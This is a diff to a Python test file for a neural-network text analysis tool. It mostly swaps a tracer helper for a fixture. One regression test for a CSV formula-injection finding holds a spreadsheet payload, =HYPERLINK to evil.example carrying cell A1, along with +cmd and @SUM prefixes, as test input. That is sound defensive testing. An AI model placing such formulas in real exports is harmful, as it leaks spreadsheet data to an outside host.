@@ -15,7 +15,7 @@ from rnnlab.text import clean_text
 from rnnlab.analysis import projection
 from rnnlab.analysis.neurons import neuron_contexts
 from rnnlab.analysis.padding import padding_demo
-from rnnlab.analysis.trace import TraceError, Tracer, get_tracer, trace_headline
+from rnnlab.analysis.trace import TraceError, Tracer
 from rnnlab.training import predict_encoded
 
 ATOL = 1e-5
@@ -31,15 +31,15 @@ RUNS = {
 
 
 @pytest.fixture(scope="module", params=list(RUNS))
-def traced(request, make_run):
+def traced(request, make_run, tracer_of):
     run = make_run(**RUNS[request.param])
-    return run, get_tracer(run)
+    return run, tracer_of(run)
 
 
 @pytest.fixture(scope="module")
-def bilstm(make_run):
+def bilstm(make_run, tracer_of):
     run = make_run(**RUNS["bilstm"])
-    return run, get_tracer(run)
+    return run, tracer_of(run)
 
 
 _TOKEN_MODELS = {}
@@ -196,13 +196,6 @@ def test_no_retracing_across_lengths(bilstm):
         tracer.trace(text)
     padding_demo(tracer, "oil prices", pads=3)
     assert all(count == 1 for count in tracer.tracing_counts().values()), tracer.tracing_counts()
-
-
-def test_trace_headline_reuses_one_tracer(bilstm):
-    run, tracer = bilstm
-    assert get_tracer(run) is tracer
-    trace = trace_headline(run, "Stocks rally", integrated_gradients=False)
-    assert trace.run_id == run.run_id and "integrated_gradients" not in trace.attributions
 
 
 # -- output formats ----------------------------------------------------------------------
@@ -390,7 +383,7 @@ def test_a_refitted_basis_replaces_the_tampered_file(own_run):
     assert json.loads(path.read_text())["class_centroids"] == good["class_centroids"]
 
 
-def test_trace_csv_holds_no_live_spreadsheet_formula(make_run):
+def test_trace_csv_holds_no_live_spreadsheet_formula(make_run, tracer_of):
     """Finding 7 (issue 16): a shared link with headline =HYPERLINK("http://..."&A1,"Click")
     made the trace CSV download hold a live formula in its word column."""
     import csv
@@ -398,7 +391,7 @@ def test_trace_csv_holds_no_live_spreadsheet_formula(make_run):
 
     from rnnlab_app.ui import trace_csv
     text = '=HYPERLINK("http://evil.example/?"&A1,"Click") +cmd -2 @SUM(A1) rally'
-    trace = get_tracer(make_run()).trace(text, integrated_gradients=False)
+    trace = tracer_of(make_run()).trace(text, integrated_gradients=False)
     assert any(t.word.startswith("=HYPERLINK") for t in trace.tokens)
     for data in (trace.to_csv(), trace_csv(trace)):
         rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
